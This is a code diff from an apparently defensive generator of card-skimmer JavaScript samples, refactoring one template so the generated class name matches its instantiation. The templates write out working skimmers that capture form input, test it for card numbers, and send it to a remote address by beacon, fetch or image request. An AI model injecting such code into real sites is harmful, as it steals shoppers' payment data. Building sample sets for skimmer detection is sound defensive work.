@@ -10,11 +10,10 @@ export const SKIMMER_SHAPES: readonly Family[] = [
     const [o, a, b] = [v.id(0), v.id(1), v.id(2)]
     return `var ${o}={${a}:{},url:'${v.address()}',init:function(){var s=this;${v.pick([`document.addEventListener('${event(v)}',function(){s.grab()},true)`, `setInterval(function(){s.grab()},${v.number(5, 40) * 100})`, `jQuery('button,.button').on('${event(v)}',function(){s.grab()})`])}},grab:function(){${harvest(v, b)}this.${a}.f=${b};this.${a}.h=location.host;if(${v.pick(CARD_TEST)}.test(${b}))this.push()},push:function(){var d=JSON.stringify(this.${a});${leave(v, 'd')}}};${o}.init();`
   }),
-  skimmer(
-    'class of the newer language',
-    (v) =>
-      `class ${v.pick(['Collector', 'Tracker', 'Watcher', 'S'])}{constructor(u){this.u=u;this.d={};document.addEventListener('${v.pick(['input', 'change', 'focusout'])}',e=>this.add(e.target))}add(t){if(t.value)this.d[t.name||t.id]=t.value;if(Object.values(this.d).some(x=>${v.pick(CARD_TEST)}.test(x)))this.flush()}flush(){const d=${v.pick(['btoa(JSON.stringify(this.d))', 'JSON.stringify(this.d)', 'new URLSearchParams(this.d).toString()'])};${v.pick(['navigator.sendBeacon(this.u,d)', "fetch(this.u,{method:'POST',mode:'no-cors',body:d})", "new Image().src=this.u+'?'+d"])}}}new ${v.pick(['Collector', 'Tracker', 'Watcher', 'S'])}('${v.address()}');`,
-  ),
+  skimmer('class of the newer language', (v) => {
+    const name = v.pick(['Collector', 'Tracker', 'Watcher', 'S'])
+    return `class ${name}{constructor(u){this.u=u;this.d={};document.addEventListener('${v.pick(['input', 'change', 'focusout'])}',e=>this.add(e.target))}add(t){if(t.value)this.d[t.name||t.id]=t.value;if(Object.values(this.d).some(x=>${v.pick(CARD_TEST)}.test(x)))this.flush()}flush(){const d=${v.pick(['btoa(JSON.stringify(this.d))', 'JSON.stringify(this.d)', 'new URLSearchParams(this.d).toString()'])};${v.pick(['navigator.sendBeacon(this.u,d)', "fetch(this.u,{method:'POST',mode:'no-cors',body:d})", "new Image().src=this.u+'?'+d"])}}}new ${name}('${v.address()}');`
+  }),
   skimmer(
     'entries of form data',
     (v) =>
